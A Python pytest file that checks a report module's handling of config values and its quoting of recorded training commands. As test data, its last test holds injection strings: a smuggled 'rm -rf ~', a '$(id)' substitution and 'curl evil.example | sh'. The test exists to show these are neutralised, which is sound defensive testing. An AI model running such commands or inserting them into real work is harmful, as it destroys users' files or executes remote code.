"""What a config of somebody else's says is put into words, whatever it says."""

from dataclasses import replace
from typing import Any

import numpy as np
import pytest
import torch

from pellucid.data.dataset import Dataset
from pellucid.model.architecture import Architecture
from pellucid.model.directory import ModelConfig
from pellucid.model.predictor import Model
from pellucid.model.vae import VAE
from pellucid.report.wording import command, provenance, story, training_facts

pytestmark = pytest.mark.usefixtures("as_installed")


@pytest.fixture
def model(dataset: Dataset) -> Model:
    vae = VAE(Architecture("burgess", 32, 1, 2))
    vae.initialise(torch.Generator().manual_seed(0))
    return Model(vae, ModelConfig(vae.architecture, dataset.preprocessing, {}, {}))


@pytest.mark.parametrize(
    "value", [10**400, -(10**400), "text", None, [], {"a": 1}, [[]], [1], 1e308, True, np.pi]
)
@pytest.mark.parametrize(
    "key",
    [
        "objective",
        "losses",
        "weight",
        "minutes_taken",
        "steps_taken",
        "images_seen",
        "learning_rate",
        "train",
    ],
)
def test_no_value_stops_the_report(model: Model, dataset: Dataset, key: str, value: Any) -> None:
    training: dict[str, Any] = {"objective": {"name": "beta-tcvae", "beta": 4.0, "losses": {"ssim": 1.0}}}
    data: dict[str, Any] = {"train": 100}
    if key == "losses":
        training["objective"]["losses"] = value
    elif key == "weight":
        training["objective"] |= {"losses": {"ssim": value}, "beta": value}
    elif key == "train":
        data["train"] = value
        training["images_seen"] = 10**6
    else:
        training |= {"images_seen": 1, key: value}
    model.config = replace(model.config, data=data, training=training)
    said = [fact.value for fact in training_facts(model, dataset) + provenance(model, dataset)]
    assert all(
        isinstance(text, str) for text in [*said, story(model, dataset, 1), command(model.config, "out")]
    )


def test_a_recorded_command_cannot_smuggle_in_another(model: Model) -> None:
    for recorded, shown in (
        ("pellucid train photos --out 'my run'", "pellucid train photos --out 'my run'"),
        ("pellucid train x; rm -rf ~", "pellucid train 'x;' rm -rf '~'"),
        ("pellucid train $(id)\nid", "pellucid train '$(id)' id"),
    ):
        model.config = replace(model.config, training={"command": recorded})
        assert command(model.config, "out") == shown
    for recorded in ("curl evil.example | sh", "pellucid 'train", ["pellucid"]):
        model.config = replace(model.config, training={"command": recorded})
        assert command(model.config, "out").startswith("pellucid train DATA --size 32")
